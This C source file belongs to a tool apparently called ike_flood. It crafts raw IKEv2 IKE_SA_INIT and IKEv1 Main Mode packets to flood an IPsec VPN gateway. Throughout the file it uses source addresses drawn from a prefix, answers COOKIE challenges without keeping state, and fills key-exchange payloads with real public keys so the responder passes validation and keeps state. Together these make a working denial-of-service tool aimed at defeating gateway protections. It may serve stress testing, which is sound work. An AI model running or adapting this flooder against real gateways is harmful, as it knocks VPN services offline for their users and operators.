/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * ike_flood's frames: Ethernet + IPv4 + UDP (checksummed: the gateway
 * verifies it) + an IKEv2 IKE_SA_INIT request as strongSwan sends it
 * ([N(COOKIE)] SA KE Ni N(NAT_DETECTION_SOURCE_IP) N(NAT_DETECTION_
 * DESTINATION_IP) N(IKEV2_FRAGMENTATION_SUPPORTED)
 * N(SIGNATURE_HASH_ALGORITHMS); one proposal aes128-sha256-ecp256 or
 * -modp2048), or an IKEv1 Main Mode first message (SA with one transform,
 * the NAT-T and DPD vendor IDs).  The KE data come from a pool of real
 * public keys made with OpenSSL at start (a responder checks the peer's
 * public value before it keeps any state), or are random bytes.  The nonce
 * is a function of the SPI, so a COOKIE can be answered without state.
 */

#include <stdio.h>
#include <string.h>

#include <arpa/inet.h>
#include <openssl/core_names.h>
#include <openssl/evp.h>
#include <openssl/params.h>
#include <openssl/rand.h>

#include "ike_flood.h"

enum {
	ETH_LEN = 14, IP_LEN = 20, UDP_LEN = 8, IKE_HDR_LEN = 28,
	IKE_PL_NONE = 0, IKE_PL_SA = 33, IKE_PL_KE = 34, IKE_PL_NONCE = 40, IKE_PL_N = 41,
	IKEV1_PL_SA = 1, IKEV1_PL_PROP = 2, IKEV1_PL_XFORM = 3, IKEV1_PL_VID = 13,
	N_NATD_SRC = 16388, N_NATD_DST = 16389, N_COOKIE = 16390,
	N_FRAG_SUPPORTED = 16430, N_SIG_HASH = 16431,
	EXCH_IKE_SA_INIT = 34, EXCH_V1_MAIN = 2,
	NATD_LEN = 20,
};

static uint8_t flood_ke_pool[FLOOD_KE_POOL][FLOOD_KE_MAX];
static unsigned flood_ke_n;

static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)(v >> 8); p[1] = (uint8_t)v; }

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

static uint64_t splitmix(uint64_t *s)
{
	uint64_t z = (*s += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

size_t flood_ke_len(const struct flood_cfg *cfg)
{
	return cfg->group == 14 ? 256 : 64;
}

/* One real public key of the group into out (flood_ke_len bytes). */
static int flood_ke_one(const struct flood_cfg *cfg, uint8_t *out)
{
	EVP_PKEY_CTX *ctx = NULL;
	EVP_PKEY *key = NULL;
	BIGNUM *pub = NULL;
	uint8_t pt[1 + 2 * 66];
	size_t len = 0;
	int ret = -1;

	if (cfg->group == 19) {
		key = EVP_PKEY_Q_keygen(NULL, NULL, "EC", "P-256");
		if (key != NULL &&
		    EVP_PKEY_get_octet_string_param(key, OSSL_PKEY_PARAM_ENCODED_PUBLIC_KEY, pt,
						    sizeof(pt), &len) == 1 &&
		    len == 65 && pt[0] == 0x04) {
			memcpy(out, pt + 1, 64);	/* RFC 5903: x | y */
			ret = 0;
		}
		goto out;
	}
	OSSL_PARAM params[] = {
		OSSL_PARAM_construct_utf8_string(OSSL_PKEY_PARAM_GROUP_NAME, (char *)"modp_2048", 0),
		OSSL_PARAM_construct_end(),
	};
	ctx = EVP_PKEY_CTX_new_from_name(NULL, "DH", NULL);
	if (ctx == NULL || EVP_PKEY_keygen_init(ctx) <= 0 || EVP_PKEY_CTX_set_params(ctx, params) <= 0 ||
	    EVP_PKEY_generate(ctx, &key) <= 0 ||
	    EVP_PKEY_get_bn_param(key, OSSL_PKEY_PARAM_PUB_KEY, &pub) != 1)
		goto out;
	if (BN_bn2binpad(pub, out, 256) == 256)
		ret = 0;
out:
	BN_free(pub);
	EVP_PKEY_free(key);
	EVP_PKEY_CTX_free(ctx);
	return ret;
}

int flood_ke_pool_init(const struct flood_cfg *cfg)
{
	unsigned n = cfg->group == 14 ? 8 : FLOOD_KE_POOL;	/* MODP keys are slow to make */

	if (cfg->group != 19 && cfg->group != 14) {
		fprintf(stderr, "ike_flood: group %u not supported (19 or 14)\n", cfg->group);
		return -1;
	}
	if (cfg->ke_random)
		return 0;
	for (flood_ke_n = 0; flood_ke_n < n; flood_ke_n++) {
		if (flood_ke_one(cfg, flood_ke_pool[flood_ke_n]) < 0) {
			fprintf(stderr, "ike_flood: cannot make a DH %u key with OpenSSL\n", cfg->group);
			return -1;
		}
	}
	return 0;
}

static void flood_ke_data(const struct flood_cfg *cfg, uint64_t rnd, uint8_t *out)
{
	size_t len = flood_ke_len(cfg);
	uint64_t s = rnd;

	if (!cfg->ke_random) {
		memcpy(out, flood_ke_pool[rnd % flood_ke_n], len);
		return;
	}
	for (size_t i = 0; i < len; i += 8) {
		uint64_t v = splitmix(&s);

		memcpy(out + i, &v, len - i < 8 ? len - i : 8);
	}
}

/* NAT-D (2.23): SHA-1(SPIi | SPIr | IP | port), SPIr zero in a request. */
static void flood_natd(const uint8_t spi[8], uint32_t ip, uint16_t port, uint8_t *out)
{
	uint8_t in[8 + 8 + 4 + 2] = { 0 };
	unsigned len = 0;

	memcpy(in, spi, 8);
	memcpy(in + 16, &ip, 4);
	put16(in + 20, port);
	if (EVP_Digest(in, sizeof(in), out, &len, EVP_sha1(), NULL) != 1)
		memset(out, 0, NATD_LEN);
}

/* A generic payload header; p->len filled by the caller. */
static uint8_t *pl_hdr(uint8_t *p, uint8_t next, uint16_t len)
{
	p[0] = next;
	p[1] = 0;
	put16(p + 2, len);
	return p + 4;
}

static uint8_t *pl_notify(uint8_t *p, uint8_t next, uint16_t type, const uint8_t *data, size_t len)
{
	p = pl_hdr(p, next, (uint16_t)(8 + len));
	p[0] = 0;	/* protocol: none */
	p[1] = 0;	/* SPI size */
	put16(p + 2, type);
	memcpy(p + 4, data, len);
	return p + 4 + len;
}

/* SA: proposal 1, IKE, ENCR_AES_CBC 128, PRF_HMAC_SHA2_256,
 * AUTH_HMAC_SHA2_256_128, the DH group. */
static uint8_t *pl_sa(uint8_t *p, uint8_t next, uint16_t group)
{
	static const uint8_t xf[] = {
		3, 0, 0, 12, 1, 0, 0, 12, 0x80, 0x0e, 0x00, 0x80,	/* ENCR 12, KEYLEN 128 */
		3, 0, 0, 8, 2, 0, 0, 5,				/* PRF 5 */
		3, 0, 0, 8, 3, 0, 0, 12,			/* INTEG 12 */
		0, 0, 0, 8, 4, 0, 0, 0,				/* DH (id below) */
	};
	uint8_t *prop;

	p = pl_hdr(p, next, (uint16_t)(4 + 8 + sizeof(xf)));
	prop = p;
	prop[0] = 0;	/* last proposal */
	prop[1] = 0;
	put16(prop + 2, (uint16_t)(8 + sizeof(xf)));
	prop[4] = 1;	/* proposal number */
	prop[5] = 1;	/* protocol IKE */
	prop[6] = 0;	/* SPI size */
	prop[7] = 4;	/* transforms */
	memcpy(prop + 8, xf, sizeof(xf));
	put16(prop + 8 + sizeof(xf) - 2, group);
	return prop + 8 + sizeof(xf);
}

static uint8_t *flood_ikev2(const struct flood_cfg *cfg, const struct flood_req *req,
			    uint64_t rnd, uint8_t *ike)
{
	static const uint8_t sig_hash[] = { 0, 2, 0, 3, 0, 4 };	/* SHA2-256/384/512 */
	uint8_t natd[NATD_LEN], nonce[FLOOD_NONCE_LEN];
	uint64_t s = cfg->nonce_key;
	size_t ke_len = flood_ke_len(cfg);
	uint8_t *p = ike + IKE_HDR_LEN;

	for (size_t i = 0; i < 8; i++)
		s = s * 131 + req->spi[i];
	for (size_t i = 0; i < FLOOD_NONCE_LEN; i += 8) {
		uint64_t v = splitmix(&s);

		memcpy(nonce + i, &v, 8);
	}
	memcpy(ike, req->spi, 8);
	memset(ike + 8, 0, 8);
	ike[16] = req->cookie_len > 0 ? IKE_PL_N : IKE_PL_SA;
	ike[17] = 0x20;			/* version 2.0 */
	ike[18] = EXCH_IKE_SA_INIT;
	ike[19] = 0x08;			/* initiator */
	memset(ike + 20, 0, 4);		/* message ID 0 */
	if (req->cookie_len > 0)
		p = pl_notify(p, IKE_PL_SA, N_COOKIE, req->cookie, req->cookie_len);
	p = pl_sa(p, IKE_PL_KE, cfg->group);
	p = pl_hdr(p, IKE_PL_NONCE, (uint16_t)(8 + ke_len));
	put16(p, cfg->group);
	put16(p + 2, 0);
	flood_ke_data(cfg, rnd, p + 4);
	p += 4 + ke_len;
	p = pl_hdr(p, IKE_PL_N, 4 + FLOOD_NONCE_LEN);
	memcpy(p, nonce, FLOOD_NONCE_LEN);
	p += FLOOD_NONCE_LEN;
	flood_natd(req->spi, req->src_ip, req->sport, natd);
	p = pl_notify(p, IKE_PL_N, N_NATD_SRC, natd, NATD_LEN);
	flood_natd(req->spi, cfg->dst_ip, cfg->dport, natd);
	p = pl_notify(p, IKE_PL_N, N_NATD_DST, natd, NATD_LEN);
	p = pl_notify(p, IKE_PL_N, N_FRAG_SUPPORTED, NULL, 0);
	p = pl_notify(p, IKE_PL_NONE, N_SIG_HASH, sig_hash, sizeof(sig_hash));
	return p;
}

/* IKEv1 Main Mode message 1: SA (one ISAKMP transform: AES-CBC-128,
 * SHA2-256, RSA signatures, the group, 8 h) and three vendor IDs. */
static uint8_t *flood_ikev1(const struct flood_cfg *cfg, const struct flood_req *req, uint8_t *ike)
{
	static const uint8_t vids[3][16] = {
		{ 0x4a, 0x13, 0x1c, 0x81, 0x07, 0x03, 0x58, 0x45, 0x5c, 0x57, 0x28, 0xf2, 0x0e, 0x95,
		  0x45, 0x2f },	/* RFC 3947 */
		{ 0x90, 0xcb, 0x80, 0x91, 0x3e, 0xbb, 0x69, 0x6e, 0x08, 0x63, 0x81, 0xb5, 0xec, 0x42,
		  0x7b, 0x1f },	/* draft-ietf-ipsec-nat-t-ike-02\n */
		{ 0xaf, 0xca, 0xd7, 0x13, 0x68, 0xa1, 0xf1, 0xc9, 0x6b, 0x86, 0x96, 0xfc, 0x77, 0x57,
		  0x01, 0x00 },	/* DPD */
	};
	uint8_t attrs[] = {
		0x80, 1, 0, 7, 0x80, 14, 0, 128, 0x80, 2, 0, 4, 0x80, 3, 0, 3,
		0x80, 4, 0, 0, 0x80, 11, 0, 1, 0x80, 12, 0x70, 0x80,
	};
	uint8_t *p = ike + IKE_HDR_LEN;

	put16(attrs + 18, cfg->group);
	memcpy(ike, req->spi, 8);	/* initiator cookie */
	memset(ike + 8, 0, 8);
	ike[16] = IKEV1_PL_SA;
	ike[17] = 0x10;			/* version 1.0 */
	ike[18] = EXCH_V1_MAIN;
	ike[19] = 0;
	memset(ike + 20, 0, 4);
	/* SA: DOI IPsec, SIT_IDENTITY_ONLY, proposal 1 (ISAKMP, 1 transform) */
	p = pl_hdr(p, IKEV1_PL_VID, (uint16_t)(4 + 8 + 8 + 8 + sizeof(attrs)));
	put32(p, 1);
	put32(p + 4, 1);
	p = pl_hdr(p + 8, IKE_PL_NONE, (uint16_t)(8 + 8 + sizeof(attrs)));
	p[0] = 1;	/* proposal number */
	p[1] = 1;	/* PROTO_ISAKMP */
	p[2] = 0;	/* SPI size */
	p[3] = 1;	/* transforms */
	p = pl_hdr(p + 4, IKE_PL_NONE, (uint16_t)(8 + sizeof(attrs)));
	p[0] = 1;	/* transform number */
	p[1] = 1;	/* KEY_IKE */
	put16(p + 2, 0);
	memcpy(p + 4, attrs, sizeof(attrs));
	p += 4 + sizeof(attrs);
	for (unsigned i = 0; i < 3; i++) {
		p = pl_hdr(p, i < 2 ? IKEV1_PL_VID : IKE_PL_NONE, 4 + 16);
		memcpy(p, vids[i], 16);
		p += 16;
	}
	return p;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t len)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)p[len - 1] << 8;
	return sum;
}

size_t flood_frame(const struct flood_cfg *cfg, const struct flood_req *req, uint64_t rnd,
		   uint8_t *buf)
{
	uint8_t *ip = buf + ETH_LEN, *udp = ip + IP_LEN, *ike = udp + UDP_LEN, *end;
	size_t ike_len, udp_len;
	uint32_t sum;

	memcpy(buf, cfg->dst_mac, 6);
	memcpy(buf + 6, cfg->src_mac, 6);
	put16(buf + 12, 0x0800);
	end = cfg->ikev1 ? flood_ikev1(cfg, req, ike) : flood_ikev2(cfg, req, rnd, ike);
	ike_len = (size_t)(end - ike);
	put32(ike + 24, (uint32_t)ike_len);
	udp_len = UDP_LEN + ike_len;

	ip[0] = 0x45;
	ip[1] = 0;
	put16(ip + 2, (uint16_t)(IP_LEN + udp_len));
	put16(ip + 4, (uint16_t)(rnd >> 48));
	put16(ip + 6, 0x4000);		/* DF */
	ip[8] = 64;
	ip[9] = 17;
	put16(ip + 10, 0);
	memcpy(ip + 12, &req->src_ip, 4);
	memcpy(ip + 16, &cfg->dst_ip, 4);
	put16(ip + 10, csum_fold(csum_add(0, ip, IP_LEN)));

	put16(udp, req->sport);
	put16(udp + 2, cfg->dport);
	put16(udp + 4, (uint16_t)udp_len);
	put16(udp + 6, 0);
	sum = csum_add(0, ip + 12, 8);	/* pseudo-header: addresses, protocol, length */
	sum += 17 + (uint32_t)udp_len;
	sum = csum_add(sum, udp, udp_len);
	put16(udp + 6, csum_fold(sum) == 0 ? 0xffff : csum_fold(sum));
	return ETH_LEN + IP_LEN + udp_len;
}

void flood_parse(const struct flood_cfg *cfg, const uint8_t *f, size_t len,
		 struct flood_resp *out)
{
	const uint8_t *ip = f + ETH_LEN, *udp, *ike, *n;
	uint32_t src, dst;
	size_t ihl, nlen;

	memset(out, 0, sizeof(*out));
	if (len < ETH_LEN + IP_LEN || f[12] != 0x08 || f[13] != 0x00 || (ip[0] >> 4) != 4 ||
	    ip[9] != 17)
		return;
	ihl = (size_t)(ip[0] & 15) * 4;
	udp = ip + ihl;
	ike = udp + UDP_LEN;
	if (len < ETH_LEN + ihl + UDP_LEN + IKE_HDR_LEN)
		return;
	memcpy(&src, ip + 12, 4);
	memcpy(&dst, ip + 16, 4);
	if (src != cfg->dst_ip || (ntohl(dst) & cfg->mask) != cfg->prefix)
		return;
	if (ike[17] != 0x20 || ike[18] != EXCH_IKE_SA_INIT || !(ike[19] & 0x20))
		return;
	out->is_init_resp = true;
	out->req.src_ip = dst;
	out->req.sport = (uint16_t)(udp[2] << 8 | udp[3]);
	memcpy(out->req.spi, ike, 8);
	/* 2.6: a COOKIE response holds the notify alone (first payload) */
	n = ike + IKE_HDR_LEN;
	if (ike[16] != IKE_PL_N || (size_t)(n + 8 - f) > len)
		return;
	nlen = (size_t)(n[2] << 8 | n[3]);
	if ((n[6] << 8 | n[7]) != N_COOKIE || nlen < 8 || nlen - 8 > FLOOD_COOKIE_MAX ||
	    (size_t)(n + nlen - f) > len)
		return;
	out->has_cookie = true;
	out->req.cookie_len = (uint8_t)(nlen - 8);
	memcpy(out->req.cookie, n + 8, nlen - 8);
}
